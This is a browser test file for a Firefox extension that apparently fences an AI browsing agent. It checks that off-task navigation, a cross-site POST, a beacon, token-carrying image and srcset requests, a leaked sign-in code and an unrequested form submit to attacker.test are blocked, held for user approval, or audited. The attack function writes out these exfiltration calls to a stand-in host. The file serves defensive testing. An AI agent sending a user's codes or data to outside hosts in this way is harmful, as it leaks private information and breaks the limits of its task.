import { expect, test } from '@playwright/test';
import type { Page } from 'puppeteer-core';
import { buildFirefoxExtension, launchFirefox, locationOf, openAt, waitForPage, type FirefoxSession } from './fixtures/firefox';
import { startTestServer, type TestServer } from './fixtures/server';

/**
 * The core vectors in Debian's firefox-esr, driven over WebDriver BiDi (puppeteer-core), with the
 * `wxt build -b firefox --mv3` output installed unpacked. The extension is driven the way a user drives
 * it: its options page opens the settings window (a window the extension opens itself), that window
 * shows the popup, the task is typed into "Task" and started, the approval is answered with "Deny", and
 * the audit is read through the popup's own channel. No test hook. The test server's request log
 * decides what arrived; every vector runs three times: the full build, the build without the MAIN-world
 * hooks (what the network floor and the ISOLATED form guard hold alone), and no extension (each attack
 * arrives).
 */

const TASK = 'Read my inbox on mail.test and email bob@corp.test a summary of the offsite message.';
const HOSTS = ['mail.test', 'attacker.test'];
/** 40 letters and digits: the floor's exfiltration shape (a long token in the query). */
const TOKEN = 'k9x2m4q7w1e8r5t3y6u0i9o2p4a7s1d8f5g3h6j0';
/** Shown on the task's page: the taint (dynamic rules under the session's out-of-scope allows) keeps it there. */
const SHOWN_CODE = '482913';

interface Agent {
  /** Tabs in the browser's first (normal) window, opened before the control window exists. */
  visitor: Page;
  network: Page;
  form: Page;
}

interface Run {
  session: FirefoxSession;
  agent: Agent;
  /** The popup in the extension's own window, or null without the extension. */
  control: Page | null;
}

/** Answers "Deny" to every approval the popup shows until `settled` resolves; returns how many it denied. */
async function denyUntil(control: Page, settled: Promise<unknown>): Promise<number> {
  let done = false;
  void settled.finally(() => (done = true));
  let denied = 0;
  while (!done) {
    const clicked = await control
      .$('::-p-text(Deny)')
      .then(async (button) => (button === null ? false : (await button.click(), true)))
      .catch(() => false);
    if (clicked) denied++;
    await new Promise((r) => setTimeout(r, 200));
  }
  return denied;
}

/** Agent tabs first: a tab puppeteer opens later lands in the most recent window, which would be the control window. */
async function agentTabs(session: FirefoxSession): Promise<Agent> {
  return { visitor: await session.browser.newPage(), network: await session.browser.newPage(), form: await session.browser.newPage() };
}

/**
 * The element `selector` finds, once it is there. Element handles, not locators: on an extension page,
 * Firefox ESR 140's WebDriver BiDi never lets a locator's action settle (the click times out), while a
 * handle's click and typing work there as in 153.
 */
async function element(page: Page, selector: string) {
  const handle = await page.waitForSelector(selector, { timeout: 15_000 });
  if (handle === null) throw new Error(`no ${selector}`);
  return handle;
}

/** Options page (read-only in a plain tab) → "Open the settings window" → that window shows the popup → start the task. */
async function startTaskAsUser(session: FirefoxSession, origin: string): Promise<Page> {
  const options = await session.browser.newPage();
  await openAt(options, `${origin}/options.html`);
  await (await element(options, '::-p-text(Open the settings window)')).click();
  const control = await waitForPage(session.browser, (url) => url === `${origin}/options.html`, [options]);
  await options.close();
  await openAt(control, `${origin}/popup.html`);
  await (await element(control, '#task-input')).type(TASK);
  await (await element(control, '::-p-text(Start task)')).click();
  await element(control, '::-p-text(Compiled by)');
  return control;
}

async function launch(variant: 'full' | 'nohooks' | 'none'): Promise<Run> {
  const session = await launchFirefox(variant === 'none' ? null : buildFirefoxExtension(variant), HOSTS);
  const agent = await agentTabs(session);
  const control = session.extensionOrigin === null ? null : await startTaskAsUser(session, session.extensionOrigin);
  return { session, agent, control };
}

/**
 * What the agent tries, from pages on mail.test (the task's site); the server log is the judge. The
 * POST's outcome is returned unsettled: with the MAIN-world hooks it may be held for the user.
 */
async function attack(run: Run, server: TestServer): Promise<{ navigation: string; post: Promise<string> }> {
  const { visitor, network, form } = run.agent;
  const mail = server.origin('mail.test');
  const attacker = server.origin('attacker.test');
  await visitor.goto(`${mail}/`);
  await network.goto(`${mail}/`);
  await form.goto(`${mail}/compose`);

  // (1) navigation off the task's sites
  const navigation = await visitor.goto(`${attacker}/landing`).then(
    () => 'loaded',
    (err: unknown) => `failed: ${String(err).slice(0, 80)}`,
  );
  // (2) cross-site POST, and a beacon (its own resource type in Firefox)
  const post = network.evaluate(async (url) => {
    try {
      return `sent:${(await fetch(url, { method: 'POST', body: 'account=4921-7788' })).status}`;
    } catch (err) {
      return `failed:${String(err)}`;
    }
  }, `${attacker}/exfil/post`);
  const beacon = network.evaluate((url) => navigator.sendBeacon(url, 'account=4921-7788'), `${attacker}/exfil/beacon`).catch(() => false);
  // (4) subresource exfiltration: an image and a srcset image (`imageset` in Firefox) carrying a token
  await network.evaluate(
    (src, srcset) => {
      const img = new Image();
      img.src = src;
      document.body.append(img);
      const set = document.createElement('img');
      set.srcset = `${srcset} 1x`;
      document.body.append(set);
    },
    `${attacker}/pixel/img?d=${TOKEN}`,
    `${attacker}/pixel/srcset?d=${TOKEN}`,
  );
  // (5) the code the page showed, in an ordinary image path (only the taint refuses it), once the
  // collector has reported it and the floor carries it
  if (run.control !== null) await taintInFloor(run.control);
  await network.evaluate((src) => document.body.append(Object.assign(new Image(), { src })), `${attacker}/pixel/code/${SHOWN_CODE}.png`);
  // (3) a consequential form submit naming a recipient the task does not
  void form.click('#send').catch(() => undefined);
  return { navigation, post: beacon.then(() => post) };
}

/** Waits until the floor's dynamic rules carry SHOWN_CODE (read from the popup, an extension page). */
async function taintInFloor(control: Page): Promise<void> {
  const deadline = Date.now() + 15_000;
  while (Date.now() < deadline) {
    const filters = await control.evaluate(async () => {
      const dnr = (globalThis as unknown as { chrome: { declarativeNetRequest: { getDynamicRules(): Promise<{ condition: { urlFilter?: string } }[]> } } }).chrome.declarativeNetRequest;
      return (await dnr.getDynamicRules()).map((r) => r.condition.urlFilter ?? '');
    });
    if (filters.includes(SHOWN_CODE)) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('the floor never received the code shown on the page');
}

let server: TestServer;
test.beforeAll(async () => {
  test.setTimeout(180_000);
  buildFirefoxExtension('full');
  buildFirefoxExtension('nohooks');
  server = await startTestServer();
  server.setPage('/', `<!doctype html><title>Mail</title><h1>Inbox</h1><p>Your sign-in code: ${SHOWN_CODE}</p>`);
  server.setPage(
    '/compose',
    '<!doctype html><title>Compose</title><form method="post" action="/api/send"><input name="to" value="carol@corp.test"><input name="subject" value="offsite"><button id="send">Send</button></form>',
  );
});
test.afterAll(async () => {
  await server?.close();
});
test.beforeEach(() => server.clearLog());

const arrived = (path: string) => server.hits(path, 'attacker.test').length;

test('firefox, full build: navigation lands on blocked.html, POST/beacon/image exfiltration never arrives, the form submit asks and Deny holds it, the audit says so', async () => {
  const run = await launch('full');
  try {
    const origin = run.session.extensionOrigin!;
    const control = run.control!;
    const { navigation, post } = await attack(run, server);
    const submitHeld = server.waitFor('/api/send', 'mail.test', 3_000).then(() => 'arrived', () => 'held');

    // (3) asks: the approval appears in the control window; Deny keeps it from the server (as it does
    // every other approval the hooks ask for: the POST may be held for the user too).
    expect(await denyUntil(control, Promise.all([post, submitHeld]))).toBeGreaterThanOrEqual(1);
    expect(await post).toMatch(/^failed/);
    // (1) the navigation failed and the tab shows why.
    expect(navigation).toMatch(/^failed/);
    await expect.poll(() => locationOf(run.agent.visitor)).toMatch(new RegExp(`^${origin}/blocked\\.html\\?`));
    expect(await run.agent.visitor.evaluate(() => document.body.innerText)).toContain('AgentsFence blocked this navigation');
    // Give anything in flight time to arrive, then judge by the server's log.
    await new Promise((r) => setTimeout(r, 1_000));
    expect(arrived('/landing')).toBe(0);
    expect(arrived('/exfil/')).toBe(0);
    expect(arrived('/pixel/')).toBe(0);
    expect(server.hits('/api/send').length).toBe(0);
    expect(server.hits('/compose', 'mail.test').length).toBe(1);

    // (5) the audit, read through the popup's channel.
    const audit = (await control.evaluate(() => (globalThis as unknown as { chrome: { runtime: { sendMessage(m: unknown): Promise<unknown> } } }).chrome.runtime.sendMessage({ type: 'audit.list' }))) as {
      ok: boolean;
      entries: { record: { decision: string; tool: string; check: string; targets: { domains: string[]; recipients: string[] } }; answer?: string; layer: string }[];
    };
    expect(audit.ok).toBe(true);
    const entries = audit.entries;
    expect(entries).toContainEqual(expect.objectContaining({ layer: 'network', record: expect.objectContaining({ decision: 'BLOCK', tool: 'browser.navigate', targets: expect.objectContaining({ domains: ['attacker.test'] }) }) }));
    expect(entries).toContainEqual(expect.objectContaining({ record: expect.objectContaining({ decision: 'ASK_USER', tool: 'browser.form_submit', targets: expect.objectContaining({ recipients: ['carol@corp.test'] }) }) }));
    expect(entries).toContainEqual(expect.objectContaining({ answer: 'deny', record: expect.objectContaining({ decision: 'BLOCK', tool: 'browser.form_submit' }) }));
    expect(entries.some((e) => e.record.decision === 'BLOCK' && e.record.targets.domains.includes('attacker.test') && e.record.tool !== 'browser.navigate')).toBe(true);
  } finally {
    await run.session.close();
  }
});

test('firefox, MAIN-world hooks removed: the network floor alone keeps the POST, the beacon, the images and the shown code from arriving, and the navigation off the task', async () => {
  const run = await launch('nohooks');
  try {
    const { navigation, post } = await attack(run, server);
    expect(navigation).toMatch(/^failed/);
    expect(await post).toMatch(/^failed/);
    await expect.poll(() => locationOf(run.agent.visitor)).toContain('/blocked.html?');
    // The ISOLATED form guard holds the submit without the hooks; it is answered so nothing is left waiting.
    await (await element(run.control!, '::-p-text(Deny)')).click();
    await new Promise((r) => setTimeout(r, 1_000));
    expect(arrived('/landing')).toBe(0);
    expect(arrived('/exfil/')).toBe(0);
    expect(arrived('/pixel/')).toBe(0);
    expect(server.hits('/api/send').length).toBe(0);
  } finally {
    await run.session.close();
  }
});

test('firefox, no extension (negative control): every one of those attacks arrives', async () => {
  const run = await launch('none');
  try {
    const { navigation, post } = await attack(run, server);
    expect(navigation).toBe('loaded');
    expect(await post).toBe('sent:200');
    await server.waitFor('/exfil/beacon', 'attacker.test');
    await server.waitFor('/pixel/img', 'attacker.test');
    await server.waitFor('/pixel/srcset', 'attacker.test');
    await server.waitFor(`/pixel/code/${SHOWN_CODE}`, 'attacker.test');
    await server.waitFor('/api/send', 'mail.test');
    expect(arrived('/landing')).toBe(1);
    expect(arrived('/exfil/post')).toBe(1);
  } finally {
    await run.session.close();
  }
});
